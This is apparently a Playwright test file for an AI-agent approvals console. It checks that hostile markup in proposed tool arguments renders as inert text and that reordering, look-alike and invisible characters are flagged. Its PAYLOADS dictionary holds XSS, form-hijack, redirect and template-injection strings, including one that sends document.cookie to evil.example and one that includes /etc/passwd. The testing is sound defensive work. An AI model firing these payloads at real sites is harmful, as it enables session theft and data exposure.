"""Hostile arguments in a real browser: no script runs, no request leaves, the page keeps its structure."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browsers import PHONE, Watched
from tests.consoles import RunningConsole

Open = Callable[..., Watched]

STRUCTURE = """() => {
  const passing = ['live', 'on', 'off', 'js-only'];
  return [...document.querySelectorAll('body, body *')]
    .filter(e => !e.closest('.mark, .eol, time') && !e.matches('details.long, details.long *'))
    .map(e => e.tagName + '.' + [...e.classList].filter(c => !passing.includes(c)).join('.')).join('\\n')
}"""

PAYLOADS = {
    "script": "<script>window.pwned=1;fetch('https://evil.example/?'+document.cookie)</script>",
    "image": "\"'><img src=https://evil.example/x.png onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "style": "</td></table><style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/a.css>",
    "form": "</form><form action=https://evil.example/><button>Approve</button></form>",
    "frame": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><base href=//evil.example>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "template": "{{ config }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
    "link": "https://evil.example/ javascript:alert(1) [x](javascript:alert(1))",
    "attribute": 'x" autofocus onfocus=alert(1) y="',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x&#x3e;",
    "comment": "--><!--<script>alert(1)</script>",
}


def structure(page: Page) -> str:
    return str(page.evaluate(STRUCTURE))


def arguments(text: str) -> dict[str, Any]:
    return {"amount": text, "to": {"name": text, "tags": [text, text]}}


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_markup_in_arguments_is_text(console: RunningConsole, open_page: Open, name: str) -> None:
    payload = PAYLOADS[name]
    plain = console.propose(arguments("plain words"), agent="first")
    hostile = console.propose(arguments(payload), agent="second")
    console.call(
        console.queue.deny(plain.id, "ana", ["finance"], digest=plain.digest, comment=payload, now=console.clock())
    )
    page = open_page().sign_in()
    expect(page.locator(".item")).to_have_count(1)
    page.goto(f"{console.url}/approvals/{hostile.id}")
    expect(page.locator(".args .value").first).to_have_text(payload, use_inner_text=True)
    with_payload = structure(page)
    harmless = console.propose(arguments("other words"), agent="third")
    page.goto(f"{console.url}/approvals/{harmless.id}")
    assert structure(page) == with_payload
    page.goto(f"{console.url}/approvals/{plain.id}")
    expect(page.locator("blockquote").first).to_have_text(payload, use_inner_text=True)
    assert page.evaluate("window.pwned") is None
    assert page.locator("main a[href^='http'], main img, main iframe, main script, main style").count() == 0


def test_markup_in_keys_tool_and_run_names_is_text(console: RunningConsole, open_page: Open) -> None:
    payload = PAYLOADS["image"]
    held = console.propose({payload: {payload: 1}}, tool=f"local.{payload}", run=payload[:100], reason=payload)
    page = open_page().sign_in()
    page.goto(f"{console.url}/approvals/{held.id}")
    expect(page.locator(".key").first).to_have_text(payload)
    expect(page.get_by_role("heading", level=1)).to_contain_text(payload)
    assert page.locator("main img").count() == 0


def test_characters_that_reorder_or_hide_are_boxes(console: RunningConsole, open_page: Open) -> None:
    held = console.propose({"file": "invoice\u202efdp.exe", "to": "p\u0430ypal", "memo": "ok\u200b\u0000\U000e0041"})
    page = open_page().sign_in()
    expect(page.locator(".alarm")).to_be_visible()
    page.goto(f"{console.url}/approvals/{held.id}")
    for label in ("RLO", "\u0430", "ZWSP", "NUL", "HIDDEN TEXT: A"):
        expect(page.locator(".args .mark", has_text=label).first).to_be_visible()
    body = page.evaluate("document.body.textContent")
    assert not set("\u202e\u200b\u0000\U000e0041") & set(body)
    notice = page.locator(".notice.warn")
    for words in ("reverse reading order", "look-alike", "invisible", "control"):
        expect(notice).to_contain_text(words)


def test_long_values_are_folded_and_open_in_full(console: RunningConsole, open_page: Open) -> None:
    text = "".join(f"sentence number {n}. " for n in range(2_000)) + "THE END"
    held = console.propose({"note": text})
    for scripts in (True, False):
        page = open_page(PHONE, java_script_enabled=scripts).sign_in()
        page.goto(f"{console.url}/approvals/{held.id}")
        whole = page.locator("pre.value", has_text="THE END")
        expect(whole).to_be_hidden()
        page.get_by_text(f"Show all {len(text):,} characters").click()
        expect(whole).to_be_visible()


def test_huge_arguments_do_not_freeze_the_page_or_push_the_buttons_away(
    console: RunningConsole, open_page: Open
) -> None:
    wall = {"x" * 150: "W" * 100_000, "rows": [{"a": n, "b": "\u202e" * 3} for n in range(3_000)], "nl": "\n" * 5_000}
    held = console.propose(wall)
    page = open_page(PHONE).sign_in()
    page.goto(f"{console.url}/approvals/{held.id}", timeout=20_000)
    expect(page.get_by_role("link", name="Approve…")).to_be_in_viewport(ratio=1)
    expect(page.get_by_text("This page does not show everything")).to_have_count(1)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
